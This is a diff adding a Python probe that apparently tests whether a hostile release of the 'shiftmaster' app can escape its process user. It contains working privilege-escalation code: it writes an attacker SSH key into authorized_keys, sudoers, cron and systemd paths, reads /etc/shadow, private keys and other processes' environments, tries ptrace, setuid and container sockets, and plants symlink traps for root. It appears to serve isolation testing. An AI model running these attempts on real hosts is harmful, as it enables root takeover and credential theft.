@@ -1,0 +1,161 @@
+"""What hostile code of a release tries, in whatever process it runs: pip, manage.py, gunicorn, Celery.
+
+run(context) makes each attempt once and writes {name: what was gained, or ""} to the first directory that it can write
+to. An attempt that gains something returns text; planted links have their effect later, when root comes by.
+"""
+
+import ctypes
+import glob
+import json
+import os
+import socket
+import subprocess
+
+APP, LOG = "/var/www/shiftmaster", "/var/log/shiftmaster"
+KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI-hostile attacker\n"
+TARGETS = ("/root/canary", "/etc/shadow", "/root/.ssh/authorized_keys")
+WRITE = [
+    "/root/.ssh/authorized_keys", "/root/canary/new", "/etc/cron.d/hostile", "/etc/systemd/system/hostile.service",
+    "/run/systemd/system/hostile.service", "/etc/sudoers.d/hostile", "/etc/ld.so.preload",
+    "/etc/tmpfiles.d/hostile.conf", "/etc/shiftmaster/cutover.json", "/usr/local/sbin/shiftmasterctl", "/usr/local/lib/shiftmaster/engine/units.py",
+    "/etc/nginx/sites-available/shiftmaster", "/etc/profile.d/hostile.sh", "/etc/logrotate.d/hostile",
+    f"{APP}/hostile", f"{APP}/releases/hostile", f"{APP}/colours/hostile", f"{APP}/shared/hostile",
+    f"{APP}/shared/state/state.json", f"{APP}/shared/state/audit.jsonl", f"{APP}/shared/static/hostile.js",
+    f"{APP}/shared/maintenance/on", f"{LOG}/hostile.log", f"{LOG}/builds/hostile.log",
+    "/var/backups/shiftmaster/hostile",
+    "/var/cache/shiftmaster/hostile", "/run/shiftmaster/worker-blue.env", "/run/shiftmaster/restart",
+    "/run/shiftmaster/points/rename", "/var/lib/prometheus/node-exporter/hostile.prom", "/proc/sys/kernel/core_pattern",
+    "/sys/kernel/uevent_helper", "/proc/1/root/root/canary/new",
+]  # fmt: skip
+READ = [
+    "/etc/shadow", "/root/canary/key", "/etc/ssl/private/shiftmaster.key", "/etc/redis/redis.conf",
+    "/etc/shiftmaster/cutover.json", f"{APP}/active/release/env", f"{APP}/shared/state/state.json", "/proc/1/environ",
+    "/var/cache/shiftmaster/source.tar", "/etc/postgresql/17/main/server.key",
+]  # fmt: skip
+COMMANDS = [
+    ["systemctl", "stop", "nginx"], ["sudo", "-n", "id"], ["su", "-c", "id"], ["mount", "--bind", "/tmp", "/etc"],
+    ["nsenter", "-t", "1", "-a", "id"], ["chroot", "/", "id"], ["crontab", "-l"], ["loginctl", "enable-linger"],
+    ["systemd-run", "id"], ["nft", "list", "ruleset"], ["runuser", "-u", "postgres", "id"],
+    ["psql", "-w", "-h", "/var/run/postgresql", "-U", "postgres", "-c", "select 1"],
+]  # fmt: skip
+SOCKETS = ["/run/docker.sock", "/run/systemd/private", "/run/containerd/containerd.sock"]
+
+
+def planted():
+    """Links and FIFOs wherever this user can put one, in place of what root opens by name."""
+    places = {
+        LOG: ["builds", "error.log", "app.log", "celery.log", "backup.log", "canary.log", "diagnosis", "checklists"],
+        f"{APP}/shared/media": ["directory", "file.png", ".new", "avatars"],
+        f"{APP}/shared/logs": ["app.log", "zzz.log", "other.log"],
+        f"{APP}/shared/parked": ["queue", "tasks.jsonl"],
+        f"{APP}/shared/static": ["css", "staticfiles.json"],
+        "/run/shiftmaster": ["worker-blue.env", "worker-green.env", "points"],
+        "/run/shiftmaster-metrics": ["gauge_all_1.db", "histogram_2.db"],
+        "/run/shiftmaster-web-blue": ["web.sock.new"],
+        "/run/shiftmaster-web-green": ["web.sock.new"],
+        "/var/lib/shiftmaster-beat": ["schedule.new"],
+        "/var/cache/shiftmaster/pip": ["http-v2", "wheels", "selfcheck"],
+        "/dev/shm": ["shiftmaster", "ansible"],
+        "/tmp": ["shiftmaster", "source.tar"],
+    }
+    for directory, names in places.items():
+        for number, name in enumerate(names):
+            path = os.path.join(directory, name)
+
+            def plant(path=path, number=number):
+                """Only in the log directory has root anything: a planted name there was taken from root."""
+                aside = path + ".aside"
+                if os.path.lexists(path):
+                    os.rename(path, aside)
+                if number % 3 == 1:
+                    os.mkfifo(path)
+                else:
+                    os.symlink(TARGETS[number % len(TARGETS)], path)
+                return "planted" if path.startswith((LOG, APP + "/shared/static")) else ""
+
+            yield f"plant {path}", plant
+
+
+def attempts():
+    def write(path):
+        with open(path, "a") as stream:
+            stream.write(KEY)
+        return f"wrote {path}"
+
+    def read(path):
+        with open(path, errors="replace") as stream:
+            return f"read {path}" if stream.read(1) else ""
+
+    def command(words):
+        done = subprocess.run(words, stdin=subprocess.DEVNULL, capture_output=True, timeout=15)
+        return f"ran {words}" if done.returncode == 0 else ""
+
+    def connect(path):
+        with socket.socket(socket.AF_UNIX) as client:
+            client.settimeout(3)
+            client.connect(path)
+        return f"connected to {path}"
+
+    def link(path):
+        os.link(path, f"{APP}/shared/media/hard")
+        os.unlink(f"{APP}/shared/media/hard")
+        return f"linked {path}"
+
+    def become_root():
+        os.setuid(0)
+        return "setuid(0)"
+
+    def trace():
+        """Attach to another user's process."""
+        for pid in filter(str.isdigit, os.listdir("/proc")):
+            with open(f"/proc/{pid}/status") as stream:
+                uid = int(stream.read().partition("Uid:")[2].split()[0])
+            if uid != os.getuid() and ctypes.CDLL(None).ptrace(16, int(pid), 0, 0) == 0:
+                return f"traced {pid}"
+        return ""
+
+    def environments():
+        """Secrets in the environment of other users' processes."""
+        for path in glob.glob("/proc/[0-9]*/environ"):
+            try:
+                if os.stat(path).st_uid != os.getuid() and open(path, "rb").read(1):
+                    return f"read {path}"
+            except OSError:
+                continue
+        return ""
+
+    def kill():
+        os.kill(1, 0)
+        return "may signal process 1"
+
+    for path in WRITE:
+        yield f"write {path}", lambda path=path: write(path)
+    for path in READ:
+        yield f"read {path}", lambda path=path: read(path)
+    for words in COMMANDS:
+        yield "run " + " ".join(words), lambda words=words: command(words)
+    for path in SOCKETS:
+        yield f"connect {path}", lambda path=path: connect(path)
+    for path in TARGETS[1:]:
+        yield f"hard link {path}", lambda path=path: link(path)
+    yield "become root", become_root
+    yield "trace", trace
+    yield "environments", environments
+    yield "kill", kill
+    yield from planted()
+
+
+def run(context):
+    results = {}
+    for name, attempt in attempts():
+        try:
+            results[name] = attempt() or ""
+        except Exception:
+            results[name] = ""
+    for directory in (f"{APP}/shared/media", os.getcwd()):
+        try:
+            with open(os.path.join(directory, f"attack-{context}.json"), "w") as stream:
+                json.dump(results, stream)
+            return
+        except OSError:
+            continue
